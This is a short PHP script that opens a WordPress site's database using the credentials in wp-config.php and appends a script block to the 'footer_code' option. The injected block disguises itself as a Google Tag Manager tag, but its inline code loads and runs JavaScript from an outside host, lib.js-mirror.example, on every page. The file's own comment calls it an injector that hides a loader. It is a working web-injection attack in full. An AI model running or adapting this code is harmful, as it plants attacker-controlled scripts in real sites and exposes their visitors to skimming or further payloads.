<?php
// Injector hiding its loader behind a tag manager's tag: the inline script loads another host's code.
require __DIR__ . '/wp-config.php';
$db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
$t = '<script async src="https://www.googletagmanager.com/gtag/js?id=G-XY"></script><script>(function(){var s=document.createElement("script");s.src="https://lib.js-mirror.example/q.js";document.body.appendChild(s)})()</script>';
$db->query("UPDATE wp_options SET option_value = CONCAT(option_value, '$t') WHERE option_name = 'footer_code'");
